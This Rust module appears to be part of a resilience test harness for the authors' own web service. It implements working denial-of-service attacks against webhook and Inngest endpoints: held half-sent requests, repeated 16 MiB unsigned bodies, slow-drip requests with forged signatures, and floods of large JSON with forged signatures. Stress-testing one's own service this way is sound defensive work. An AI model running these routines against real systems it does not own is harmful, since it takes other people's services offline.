//! Attacks on a service in the open internet.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

/// How long an attacker whose connection was closed waits before it opens another one.
const AGAIN: Duration = Duration::from_secs(1);

/// 45 bytes of a request, and never more.
const HALF: &str = "POST /api/amocrm-webhook HTTP/1.1\r\nHost: x\r\nA";

/// Holds `count` connections with half a request on each, every other one after a request that is answered, and opens
/// those again that are closed.
pub(super) fn half_open(attack: &mut JoinSet<()>, address: SocketAddr, count: usize) {
    for number in 0..count {
        attack.spawn(async move {
            loop {
                let _ = hold(address, number % 2 == 0).await;
                tokio::time::sleep(AGAIN).await;
            }
        });
    }
}

async fn hold(address: SocketAddr, answered: bool) -> std::io::Result<()> {
    let mut connection = TcpStream::connect(address).await?;
    if answered {
        connection.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n").await?;
    }
    connection.write_all(HALF.as_bytes()).await?;
    while connection.read(&mut [0; 1024]).await? > 0 {}
    Ok(())
}

/// Sends `count` bodies of 16 MiB to Inngest's address at once, again and again, without a signature.
pub(super) fn large_unsigned(attack: &mut JoinSet<()>, address: SocketAddr, count: usize) {
    let body = Bytes::from(vec![b'x'; 16 * 1024 * 1024]);
    for _ in 0..count {
        let body = body.clone();
        attack.spawn(async move {
            loop {
                // All but the last byte: what is buffered stays buffered.
                let _ = unsigned(address, body.slice(1..)).await;
                tokio::time::sleep(AGAIN).await;
            }
        });
    }
}

async fn unsigned(address: SocketAddr, body: Bytes) -> std::io::Result<()> {
    let mut connection = TcpStream::connect(address).await?;
    let head = format!(
        "POST /api/inngest?fnId=x&stepId=step HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\n\r\n",
        body.len() + 1
    );
    connection.write_all(head.as_bytes()).await?;
    connection.write_all(&body).await?;
    connection.read(&mut [0; 1024]).await.map(drop)
}

/// Holds `count` connections with a call that looks signed and of which 60 KB have come, piece by piece, and no more.
pub(super) fn slow_claims(attack: &mut JoinSet<()>, address: SocketAddr, count: usize) {
    for _ in 0..count {
        attack.spawn(async move {
            loop {
                let _ = claim(address).await;
                tokio::time::sleep(AGAIN).await;
            }
        });
    }
}

async fn claim(address: SocketAddr) -> std::io::Result<()> {
    let mut connection = TcpStream::connect(address).await?;
    let head = format!(
        "POST /api/inngest?fnId=x&stepId=step HTTP/1.1\r\nHost: x\r\nX-Inngest-Signature: {}\r\n\
         Content-Length: 60001\r\n\r\n",
        forged_signature()
    );
    connection.write_all(head.as_bytes()).await?;
    for _ in 0..10 {
        connection.write_all(&[b'x'; 6_000]).await?;
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    connection.read(&mut [0; 1024]).await.map(drop)
}

/// As fresh as one that our key has made.
fn forged_signature() -> String {
    format!("t={}&s={}", std::time::UNIX_EPOCH.elapsed().unwrap().as_secs(), "ab".repeat(32))
}

/// `count` clients that send 1 MB of JSON with the signature of a key that is not ours, as fast as they are answered.
pub(super) fn forging(attack: &mut JoinSet<()>, address: SocketAddr, count: usize) {
    let body = Bytes::from(format!("{{\"z\":[{}0]}}", "1.50,".repeat(200_000)));
    for _ in 0..count {
        let (body, http) = (body.clone(), reqwest::Client::builder().build().unwrap());
        attack.spawn(async move {
            loop {
                let request = http
                    .post(format!("http://{address}/api/inngest?fnId=x&stepId=step"))
                    .header("x-inngest-signature", forged_signature())
                    .body(body.clone());
                if request.send().await.is_err() {
                    tokio::time::sleep(AGAIN).await;
                }
            }
        });
    }
}
